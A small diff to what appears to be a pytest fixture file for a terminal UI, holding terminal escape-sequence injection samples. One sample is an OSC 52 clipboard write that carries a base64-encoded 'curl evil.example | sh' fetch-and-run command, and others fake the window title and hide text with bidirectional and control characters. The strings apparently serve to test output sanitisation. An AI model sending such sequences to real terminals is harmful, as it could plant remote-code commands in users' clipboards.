@@ -23,7 +23,7 @@ from tui.store import Store
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
 OSC0 = "\x1b]0;pwned title\x1b\\"
 NOTES = f"first line {OSC52}\nsecond \u202eline {OSC0} \x9d0;c1\x9c tag\U000e0041 sep\u2028end"
-TAGS = [f"vip{OSC0}", "plain", f"\u202eflip\x07"]
+TAGS = [f"vip{OSC0}", "plain", "\u202eflip\x07"]
 
 
 @pytest.fixture
